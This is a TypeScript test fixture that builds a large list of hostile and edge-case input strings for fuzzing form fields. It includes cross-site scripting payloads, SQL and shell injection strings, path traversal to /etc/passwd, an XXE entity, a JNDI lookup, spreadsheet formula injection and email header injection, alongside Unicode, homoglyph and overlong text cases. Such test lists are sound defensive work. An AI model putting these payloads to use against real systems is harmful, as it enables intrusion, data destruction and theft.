// Texts that are meant to harm, or that are rarely tested. The attack tries each in every field.

/** Script calls for hostile texts. If such a call runs, it shows a dialog or marks the window. */
const calls = ["alert(1)", "confirm`1`", "window.pwned=1", "top['al'+'ert'](1)"];

const elements = (call: string) => [
  `<script>${call}</script>`,
  `<ScRiPt >${call}</sCrIpT>`,
  `<script src=data:,${call}></script>`,
  `</script><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</style><img src=x onerror=${call}>`,
  `<img src=x onerror=${call}>`,
  `<img src=x onerror="${call}"//`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<body onload=${call}>`,
  `<iframe srcdoc="<script>${call}</script>">`,
  `<iframe src="javascript:${call}">`,
  `<object data="javascript:${call}">`,
  `<embed src="javascript:${call}">`,
  `<a href="javascript:${call}">go</a>`,
  `<a href="java\tscript:${call}">go</a>`,
  `<form action="javascript:${call}"><button>go</button></form>`,
  `<input autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href="javascript:${call}//">`,
  `<link rel=stylesheet href="javascript:${call}">`,
  `<style>@import 'javascript:${call}';</style>`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<!--><script>${call}</script>-->`,
  `<![CDATA[<script>${call}</script>]]>`,
  `<?xml version="1.0"?><script>${call}</script>`,
  `<x onclick=${call} tabindex=1 autofocus onfocus=${call}>x`,
  `"><script>${call}</script>`,
  `'><script>${call}</script>`,
  `" onfocus=${call} autofocus x="`,
  `' onmouseover=${call} x='`,
  "` onmouseover=".concat(call, " x=`"),
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `\u0001javascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `vbscript:${call}`,
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `<%= ${call} %>`,
  `#{${call}}`,
  `*/${call}/*`,
  `';${call};//`,
  `";${call};//`,
  `\\";${call};//`,
  `</script><!--${call}`,
  `\u2028${call}`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `%3Cscript%3E${encodeURIComponent(call)}%3C/script%3E`,
  `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  `[go](javascript:${call})`,
  `![x](x"onerror="${call})`,
  `<javascript:${call}>`,
];

/** Texts with database, shell, template, spreadsheet and path syntax. */
const languages = [
  ...["{IFS}id", "{{7*7}}", "{jndi:ldap://x.example}"].map((rest) => `$${rest}`),
  ..."' OR '1'='1|'; DROP TABLE tips;--|1; SELECT pg_sleep(5)|' UNION SELECT * FROM user--".split(
    "|",
  ),
  ..."%' ESCAPE '\\|_%|%%%|$1|?1|:name|@@version|0x27|\\'|\"\"\"|E'\\x00'|/**/|-- |#".split("|"),
  ...'* AND *|NEAR(a b)|title:basil|"unclosed|a AND|OR OR|NOT|basil*|^basil|(((|-basil|a NEAR/2 b|{a b}'.split(
    "|",
  ),
  ..."a & b,a | b,!a,<->,a:*,'a' <2> 'b'".split(","),
  ..."; id|$(id)|`id`|&& id|> /tmp/pwned|%0a id|!!|~root".split("|"),
  ..."../../etc/passwd|..\\..\\boot.ini|/etc/passwd\u0000.png|%2e%2e%2f|file:///etc/passwd|CON|NUL|a/b|.|..".split(
    "|",
  ),
  ..."=cmd|' /C calc'!A0;+1+1;-1+1;@SUM(1);=HYPERLINK(\"http://x.example\")".split(";"),
  ..."%s%s%s%n|%x|{0}|%(name)s|$!{x}|#set($x=1)|{% raw %}|{{7*7}}|<#assign x=1>".split("|"),
  ...'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;|<x:include href="x"/>|*)(uid=*)|\' or name()=\'x'.split(
    "|",
  ),
  ..."# Heading|**bold**|> quote|```|---|| a | b ||<details>|[x]: /x|1. one|- [ ] todo|https://x.example/?a=b&c=d#e".split(
    "|",
  ),
  ..."http://x.example/(a)[b]|https://user:secret@x.example|//x.example|mailto:a@b.example|tel:1|ftp://x.example".split(
    "|",
  ),
  ..."https://xn--80ak6aa92e.example|https://x.example\\@y.example|https://[::1]/|https://127.0.0.1:22/|https://x.example:99999".split(
    "|",
  ),
  ..."null|undefined|NaN|Infinity|-0|true|false|nil|None|[object Object]|0|1e309|0x0|00|١٢٣|Ⅷ|½|1,000|1.000".split(
    "|",
  ),
  ...'__proto__|constructor|prototype|toString|hasOwnProperty|then|__defineGetter__|{"$gt":""}|[]|{}'.split(
    "|",
  ),
  ..."2026-02-30|9999-12-31T23:59:60Z|1970-01-01|-271821-04-20|24:00".split("|"),
];

/** Texts that could end a header field, a part of a letter, or a letter, and begin the next one. */
const letters = [
  ..."Bcc: all@example.org|Subject: another|From me|.|..|--|--boundary|=3D=0A=0D|=?utf-8?B?PGI+?=".split(
    "|",
  ),
  ..."=?utf-8?Q?=0ABcc:_x@example.org?=|Content-Type: text/html|begin 644 x|MIME-Version: 1.0|>From x".split(
    "|",
  ),
  ...'"a" <b@example.org>|a@example.org, b@example.org|<b@example.org>|group: a@b.example;|(comment)|a\\b'.split(
    "|",
  ),
  ...["x\r\nBcc: all@example.org", "x\nBcc: all@example.org", "x\rBcc: all@example.org"],
  ...[
    "x\r\n\r\n<b>body</b>",
    "x\r\n.\r\nMAIL FROM:<a@b.example>",
    "x\u0085Bcc: y",
    "x\u2028Bcc: y",
  ],
  ...[
    "x\u0000y",
    "a@example.org\r\nRCPT TO:<b@example.org>",
    "\ufeffFrom: x",
    `x${" ".repeat(300)}y`,
  ],
];

/** Puts a character between two letters, alone, and at the end of a word. */
const around = (character: string) => [`a${character}b`, character, `Beans${character}`];
const points = (...codes: number[]) => codes.map((code) => String.fromCodePoint(code));
const range = (from: number, to: number) =>
  points(...Array.from({ length: to - from + 1 }, (_, at) => from + at));

/**
 * Invisible characters, characters that change the direction of text, and lone halves of surrogate
 * pairs.
 */
const characters = [
  ...range(0x00, 0x1f).map((control) => `a${control}b`),
  ...range(0x7f, 0x9f).map((control) => `a${control}b`),
  ...range(0x200b, 0x200f).flatMap(around),
  ...range(0x202a, 0x202e).flatMap(around),
  ...range(0x2060, 0x2069).flatMap(around),
  ...points(
    0x61c,
    0xad,
    0x34f,
    0x115f,
    0x1160,
    0x17b4,
    0x180e,
    0x2800,
    0x3164,
    0xfeff,
    0xffa0,
  ).flatMap(around),
  ...points(0xa0, 0x1680, 0x2000, 0x2003, 0x200a, 0x2028, 0x2029, 0x202f, 0x205f, 0x3000).flatMap(
    around,
  ),
  ...points(
    0xfff9,
    0xfffa,
    0xfffb,
    0xfffc,
    0xfffd,
    0xfdd0,
    0xfffe,
    0xffff,
    0x1fffe,
    0x10ffff,
  ).flatMap(around),
  ...points(0xe000, 0xf8ff, 0x100000, 0xe0001, 0xe0041, 0xfe0f, 0x1d173, 0x1f3fb).flatMap(around),
  ...["a\ud800b", "a\udc00b", "\ud800", "\udfff\ud800", "\ud83c\udf31\ud83c", "a\ud83d"],
  ...["\u202eTHGIR", "\u2066a\u2069\u2067b", "a\u202eb\u202cc\u202dd", "\u061c\u200f\u200e"],
];

/** Texts in many languages, and emoji. */
const scripts = [
  ..."مرحبا بالحديقة|שלום עולם|देवनागरी में बीज|ไทยไม่มีช่องว่างระหว่างคำ|日本語の園芸|中文園藝|한국어 정원".split(
    "|",
  ),
  ..."Ελληνικά|Кириллица|Հայերեն|ქართული|አማርኛ|বাংলা|தமிழ்|മലയാളം|ភាសាខ្មែរ|မြန်မာဘာသာ|བོད་ཡིག|ᚠᚢᚦ|𓀀𓀁|𐍈".split(
    "|",
  ),
  ..."Ångström|Å|ﬁ|ſ|ß ẞ|İstanbul|ıI|Ǆ|ﷺ|꧅|𒐫|㍿|Ω Ω|K K|e\u0301|é|q\u0307\u0323|q\u0323\u0307".split(
    "|",
  ),
  ..."🌱|👨‍👩‍👧‍👦|🏳️‍🌈|👩🏽‍🌾|🇩🇪🇫🇷|🏴󠁧󠁢󠁥󠁮󠁧󠁿|1️⃣|☘︎|☘️|🫥🫠|👨🏿‍🦽‍➡️|‍|🧑‍🌾‍".split("|"),
  ..."pаypаl|аdmin|Ｆｕｌｌ ｗｉｄｔｈ|𝕭𝖔𝖑𝖉|ᴬᴮᶜ|Z̸̢͓̈́a̷l̶g̵o̴|ก็็็็็็็็็็|a̐éö̲".split("|"),
  ..."‮Basil|Basil ‏|x‍y|…|–—―|“”‘’|¡¿|№|©®™|∞≠≤|☃|☠|⏩|←↑→↓|░▒▓|ʇxǝʇ".split("|"),
];

/** Texts that are too wide, long or tall for a small screen. */
const wide = [
  ...[
    "W",
    "i",
    "_",
    "-",
    ".",
    "/",
    "@",
    "m\u00ad",
    "W\u2060",
    "W\u200b",
    "汉",
    "ﷺ",
    "𒐫",
    "🌱",
    "👨‍👩‍👧‍👦",
    "\u0e47",
  ].flatMap((unit) => [unit.repeat(40), unit.repeat(60), unit.repeat(80)]),
  ...["W", "a ", "汉", "é", "🌱", "e\u0301"].flatMap((unit) =>
    [119, 120, 121, 200, 300, 401, 1001].map((length) => unit.repeat(length).slice(0, length)),
  ),
  ...["a\n".repeat(100), "\n\n\na", "a\tb\tc", "\t".repeat(60), " a ", "a  b", "\u00a0a\u00a0"],
  ...[
    "Zalgo ".concat("\u0300".repeat(80)),
    "a\u20dd".repeat(30),
    `${"(".repeat(100)}`,
    "",
    " ",
    "\u3164",
  ],
  `https://x.example/${"a".repeat(80)}`,
  `${"a".repeat(70)}@example.org`,
  "W".repeat(5000),
  "a\u0301".repeat(2500),
  "W".repeat(5001),
];

export const hostileStrings = [
  ...new Set([
    ...calls.flatMap(elements),
    ...languages,
    ...letters,
    ...characters,
    ...scripts,
    ...wide,
  ]),
];
